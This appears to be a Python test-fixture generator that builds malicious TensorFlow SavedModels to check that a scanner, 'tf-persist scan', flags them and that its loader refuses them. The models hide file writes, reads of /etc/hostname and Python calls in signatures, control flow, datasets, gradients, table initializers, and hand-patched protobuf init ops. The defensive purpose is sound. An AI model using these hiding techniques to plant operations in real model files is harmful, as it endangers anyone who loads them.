"""Writes SavedModels that attack: they write and read files, print to files, and call Python.

    python -m models.make_attacks OUT VICTIM

makes a folder for each in OUT, whose name says where the op is hidden. What they write, they write to the folder VICTIM; what
they read is /etc/hostname. `tf-persist scan` must find each, and `load` must refuse it: tests/interop/scan.rs.
"""

import argparse
import functools
import pathlib

import tensorflow as tf
from tensorflow.core.protobuf import meta_graph_pb2, saved_model_pb2

READ = "/etc/hostname"
SCALAR = [tf.TensorSpec([], tf.float32, name="x")]


def module(function):
    """A module whose `serving_default` is this function of a number."""
    made = tf.Module()
    made.serve = tf.function(function, input_signature=SCALAR)
    return made, made.serve


def write_in_signature(victim):
    def serve(x):
        tf.io.write_file(str(victim / "write_in_signature"), "owned")
        return {"y": x + 1.0}

    return module(serve)


def read_in_signature(victim):
    return module(lambda x: {"y": tf.io.read_file(READ)})


def read_joined_name(victim):
    return module(lambda x: {"y": tf.io.read_file(tf.strings.join(["/etc", "hostname"], "/"))})


def read_computed_name(victim):
    return module(lambda x: {"y": tf.io.read_file(tf.strings.regex_replace("Zetc/hostname", "Z", "/"))})


def read_any(victim):
    made = tf.Module()
    made.serve = tf.function(
        lambda path: {"y": tf.io.read_file(path)}, input_signature=[tf.TensorSpec([], tf.string, name="path")]
    )
    return made, made.serve


def function_in_function(victim):
    @tf.function
    def inner(x):
        tf.io.write_file(str(victim / "function_in_function"), "owned")
        return x + 1.0

    @tf.function
    def outer(x):
        return inner(x) * 2.0

    return module(lambda x: {"y": outer(x)})


def while_body(victim):
    def serve(x):
        while x < 10.0:
            tf.io.write_file(str(victim / "while_body"), "owned")
            x += 1.0
        return {"y": x}

    return module(serve)


def if_branch(victim):
    def serve(x):
        if x > 0.0:
            tf.io.write_file(str(victim / "if_branch"), "owned")
        return {"y": x}

    return module(serve)


def dataset_map(victim):
    def serve(x):
        def write(number):
            tf.io.write_file(str(victim / "dataset_map"), "owned")
            return tf.cast(number, tf.float32)

        return {"y": tf.data.Dataset.range(3).map(write).reduce(x, lambda a, b: a + b)}

    return module(serve)


def dataset_of_lines(victim):
    def serve(x):
        lines = tf.data.TextLineDataset(READ)
        return {"y": lines.reduce("", lambda a, b: tf.strings.join([a, b]))}

    return module(serve)


def gradient(victim):
    @tf.custom_gradient
    def identity(x):
        def grad(upstream):
            tf.io.write_file(str(victim / "gradient"), "owned")
            return upstream

        return tf.identity(x), grad

    def serve(x):
        with tf.GradientTape() as tape:
            tape.watch(x)
            y = identity(x)
        return {"y": tape.gradient(y, x)}

    return module(serve)


def print_to_file(victim):
    def serve(x):
        tf.print("owned", output_stream=f"file://{victim / 'print_to_file'}")
        return {"y": x + 1.0}

    return module(serve)


def python_function(victim):
    return module(lambda x: {"y": tf.py_function(lambda y: y + 1.0, [x], tf.float32)})


def saved_dataset(victim):
    def serve(x):
        cached = tf.data.Dataset.range(3).cache(str(victim / "saved_dataset"))
        return {"y": x + tf.cast(cached.reduce(tf.constant(0, tf.int64), lambda a, b: a + b), tf.float32)}

    return module(serve)


def init_op(victim):
    class Evil(tf.lookup.TextFileInitializer):
        def initialize(self, table):
            with tf.control_dependencies([tf.io.write_file(str(victim / "init_op"), "owned")]):
                return super().initialize(table)

    words = victim / "words.txt"
    words.write_text("a\nb\n")
    made = tf.Module()
    initializer = Evil(str(words), tf.string, tf.lookup.TextFileIndex.WHOLE_LINE, tf.int64, tf.lookup.TextFileIndex.LINE_NUMBER)
    made.table = tf.lookup.StaticHashTable(initializer, -1)
    made.serve = tf.function(
        lambda word: {"y": made.table.lookup(word)}, input_signature=[tf.TensorSpec([None], tf.string, name="word")]
    )
    return made, made.serve


ATTACKS = [
    write_in_signature, read_in_signature, read_joined_name, read_computed_name, read_any, function_in_function,
    while_body, if_branch, dataset_map, dataset_of_lines, gradient, print_to_file, python_function, saved_dataset, init_op,
]


def patch(folder, change):
    """Changes the meta graph of a saved model."""
    model = saved_model_pb2.SavedModel()
    model.ParseFromString((folder / "saved_model.pb").read_bytes())
    more = change(model.meta_graphs[0]) or b""
    meta_graph = model.meta_graphs[0].SerializeToString() + more
    (folder / "saved_model.pb").write_bytes(b"\x08\x01" + field(2, meta_graph))


def field(number, content):
    """A field of a message in protobuf's wire format."""
    length, rest = bytearray(), len(content)
    while rest > 127:
        length.append(rest & 127 | 128)
        rest >>= 7
    return bytes([number << 3 | 2, *length, rest]) + content


def write_at_top(meta_graph, path):
    """Adds the node `boot`, behind which `evil` writes a file."""
    nodes = meta_graph.graph_def.node
    for name, text in (("path", str(path)), ("content", "owned")):
        constant = nodes.add(name=name, op="Const")
        constant.attr["dtype"].type = tf.string.as_datatype_enum
        constant.attr["value"].tensor.CopyFrom(tf.make_tensor_proto(text))
    nodes.add(name="write", op="WriteFile", input=["path", "content"])
    for name, inputs in (("evil", ["content", "^write"]), ("boot", ["evil"])):
        nodes.add(name=name, op="Identity", input=inputs).attr["T"].type = tf.string.as_datatype_enum


def init_like_a_signature(victim, meta_graph):
    """The init op's signature has a dtype, and an input at the malicious tensor: TensorFlow feeds nothing there."""
    write_at_top(meta_graph, victim / "init_like_a_signature")
    signature = meta_graph.signature_def["__saved_model_init_op"]
    signature.Clear()
    for infos, key, name in ((signature.inputs, "x", "evil:0"), (signature.outputs, "__saved_model_init_op", "boot")):
        infos[key].name, infos[key].dtype = name, tf.string.as_datatype_enum


def init_in_parts(victim, meta_graph):
    """The entry of the init op's signature is split into two parts, the second one empty; protobuf merges them."""
    write_at_top(meta_graph, victim / "init_in_parts")
    signature = meta_graph_pb2.SignatureDef()
    signature.outputs["__saved_model_init_op"].name = "boot"
    entry = field(1, b"__saved_model_init_op") + field(2, signature.SerializeToString()) + field(2, b"")
    return field(5, entry)


PATCHES = [init_like_a_signature, init_in_parts]


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("out", type=pathlib.Path, help="the folder for the models")
    parser.add_argument("victim", type=pathlib.Path, help="the folder that they write to")
    arguments = parser.parse_args()
    for attack in ATTACKS:
        made, serve = attack(arguments.victim.resolve())
        tf.saved_model.save(made, str(arguments.out / attack.__name__), signatures=serve)
    for change in PATCHES:
        made, serve = module(lambda x: {"y": x + 1.0})
        folder = arguments.out / change.__name__
        tf.saved_model.save(made, str(folder), signatures=serve)
        patch(folder, functools.partial(change, arguments.victim.resolve()))


if __name__ == "__main__":
    main()
